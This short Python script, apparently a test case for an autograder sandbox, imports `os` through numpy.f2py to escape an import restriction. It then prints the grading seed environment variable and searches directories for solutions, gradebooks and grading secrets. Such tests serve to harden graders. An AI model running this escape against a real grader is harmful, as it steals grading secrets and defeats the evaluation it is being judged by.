"""Attack: reach `os` through a re-export inside an allowed package (numpy.f2py), then look for
the grading secret and the sources through it."""
# base: softplus wrong_naive_forward
# layers: rules verdict
from numpy.f2py.f2py2e import os

for _name in ("CH4_GRADING_SEED", "HOME", "PWD"):
    print("ENV", _name, os.environ.get(_name))
for _place in ("/", "/work", "/root", os.getcwd()):
    try:
        for _entry in os.listdir(_place):
            if _entry.endswith((".ipynb", ".db", "grading-secret")) or _entry in ("solutions", "gradebook.db"):
                print("FOUND", os.path.join(_place, _entry))
    except OSError:
        pass
